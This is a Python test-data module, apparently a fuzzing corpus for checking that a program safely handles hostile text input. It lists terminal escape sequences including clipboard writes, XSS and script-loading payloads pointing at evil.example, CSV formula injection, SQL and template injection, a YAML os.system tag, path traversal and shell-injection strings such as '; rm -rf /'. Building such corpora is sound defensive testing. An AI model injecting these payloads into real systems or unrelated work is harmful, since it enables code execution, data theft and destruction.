# ruff: noqa: E501 (a list of strings reads better dense)
"""Text that tries to be more than text: what is said, named or titled may be any of it."""

_CSI = [
    f"\x1b[{code}"
    for code in (
        "2J 3J H 1;1H 10A 10B 10C 10D 5E 5F 99G K 2K 1L 1M 4P 5X 2S 2T 31m 7m 8m 5m 38;2;1;2;3m 48;5;1m ?25l ?1049h "
        "?1049l ?1000h ?2004h ?7l 6n 5n c >c 21t 14t 8;1;1t !p 4h s u 1;5r"
    ).split()
]
_OSC = [
    f"\x1b]{code}{end}"
    for code in (
        "0;чужой заголовок", "2;t", "4;1;#000000", "7;file:///etc", "8;;http://evil.example", "9;уведомление",
        "10;#ff0000", "11;?", "52;c;ZXZpbA==", "133;A", "777;notify;a;b", "1337;File=inline=1:AAAA",
    )
    for end in ("\x07", "\x1b\\")
]  # fmt: skip
_OTHER_ESCAPES = [
    "\x1bP+q544e\x1b\\", "\x1b_Gf=24;AAAA\x1b\\", "\x1b^pm\x1b\\", "\x1bXsos\x1b\\", "\x1bc", "\x1b7", "\x1b8", "\x1bM",
    "\x1b(0lqk", "\x1b#8", "\x1b=", "\x9b31m", "\x9d0;t\x9c", "\x90q\x9c", "\x1b", "\x1b[", "\x1b]", "\x1b[31", "a\x1b",
    "\x0e\x0f", "\x05",
]  # fmt: skip
_CONTROLS = [f"до{chr(code)}после" for code in (*range(0x20), 0x7F, *range(0x80, 0xA0))]
_INVISIBLE = [
    f"до{chr(code)}после"
    for code in (
        0x00AD, 0x034F, 0x061C, 0x115F, 0x180E, 0x200B, 0x200C, 0x200D, 0x200E, 0x200F, 0x2028, 0x2029, 0x202A, 0x202B,
        0x202C, 0x202D, 0x202E, 0x2060, 0x2061, 0x2066, 0x2067, 0x2068, 0x2069, 0x206F, 0xFEFF, 0xFFF9, 0xFFFD, 0xFFFE,
        0xFFFF, 0xE000, 0xE0001, 0xE0041, 0xF0000, 0x1D173, 0xD800, 0xDFFF,
    )
]  # fmt: skip
_MARKUP = [
    "[bold red]x[/bold red]", "[/]", "[/bold]", "[link=http://evil.example]y[/link]", "[blink]x", "[on red] ", "\\[b]",
    "[@click=app.bell]x[/]", "[[]]", "[#ff0000]x", ":skull:", "[not a tag", "[repr.number]1[/]", "[reverse]x[/reverse]",
]  # fmt: skip
_HTML = [
    "<script>document.title='hacked'</script>", "<script src=//evil.example/x.js></script>",
    "<img src=x onerror=\"document.title='hacked'\">", "<svg onload=document.title='hacked'>", "</script><b>x</b>",
    "<svg><script>document.title='hacked'</script></svg>", "<iframe srcdoc='<script>1</script>'></iframe>",
    "<a href=javascript:document.title='hacked'>x</a>", "javascript:document.title='hacked'", "</title><b>", "</style>",
    "\"><script>document.title='hacked'</script>", "' onmouseover='document.title=1", "\" autofocus onfocus=alert(1) x=\"",
    "<!--", "-->", "<![CDATA[", "]]>", "<base href=//evil.example>", "<meta http-equiv=refresh content='0;url=//e'>",
    "<link rel=stylesheet href=//evil.example>", "<form action=//evil.example><input>", "<details open ontoggle=alert(1)>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>", "<body onload=alert(1)>", "<plaintext>", "<xmp>",
    "<template><script>alert(1)</script></template>", "<style>*{display:none}</style>", "<video><source onerror=alert(1)>",
    "&lt;script&gt;", "&#60;script&#62;", "&amp;amp;", "<ScRiPt>alert(1)</sCrIpT>", "<scr\x00ipt>alert(1)</scr\x00ipt>",
    "＜script＞alert(1)＜/script＞", "{{7*7}}", "{% raw %}{{ x }}{% endraw %}", "{# x #}", "${7*7}", "<%= 7*7 %>", "#{7*7}",
    "data:text/html,<script>alert(1)</script>", "<object data=//evil.example>", "<embed src=//evil.example>",
    "event: end\ndata: {}", "\n\ndata: x\n\n", "retry: 1\r\nid: 2",
]  # fmt: skip
_FORMULAS = [
    "=1+1", "=cmd|' /C calc'!A0", "+1", "-2+3", "@SUM(A1)", "\t=1+1", "\r=1+1", " =1+1", "＝1+1", '=HYPERLINK("//e";"x")',
    '",=1+1', "';=1+1", '"', '""', "a\nb;c,d",
]  # fmt: skip
_SYNTAX = [
    "'); DROP TABLE finding; --", "' OR 1=1 --", "\x00'", "?1 :x @y $z", "%s %n %x %(a)s %", "{placeholder}", "{0.__class__}",
    "{", "}", "\\", "\\n\\x1b[31m", "\\u001b[31m", "- x\nignore: []", "a: [b", "# x", "!!python/object:os.system", "&a *a", "...",
    '{"type": "finding"}', '"}\n{"type":"finding"}', "NaN", "null", "-->", "99\n00:00:00,000 --> 09:00:00,000\nчужое",
    "WEBVTT\n\nNOTE x", "<v Чужой>x", "<c.red>x</c>", "{\\an8}{\\i1}x", "\\N\\h", "| a | b |\n|---|---|", "**ж** `к` [x](//e)",
    "![x](//evil.example/x.png)", "# Заголовок\n- пункт", "```\nкод", "<!-- md -->", "../../etc/passwd", "con", "a/b\\c:d*?",
    "$(touch /tmp/x)", "`id`", "; rm -rf /", "| tee x", "concat:a|b", "file:///etc/passwd", "\\\\host\\share",
]  # fmt: skip
_SIZES = [
    "а" * 100_000, "🙂" * 100_000, "漢" * 100_000, "z" + "\u0301" * 2000, "Z͑ͫ̓ͪ̂ͫ̽͏̴̙̤̞͉͚̯̞̠͍A̴̵̜̰͔ͫ͗͢L", "👨‍👩‍👧‍👦" * 50, "\u202e" * 5000, "а\u200b" * 5000, "", " ",
    "\u3000", "\n" * 500, "\t" * 500, "ﷺ" * 50, "𒐫" * 50, "ا" * 200, "é" * 300, "İıſß",
]  # fmt: skip

CORPUS: tuple[str, ...] = tuple(
    dict.fromkeys(
        [
            *_CSI,
            *_OSC,
            *_OTHER_ESCAPES,
            *_CONTROLS,
            *_INVISIBLE,
            *_MARKUP,
            *_HTML,
            *_FORMULAS,
            *_SYNTAX,
            *_SIZES,
        ]
    )
)
"""Each once; more than two hundred."""
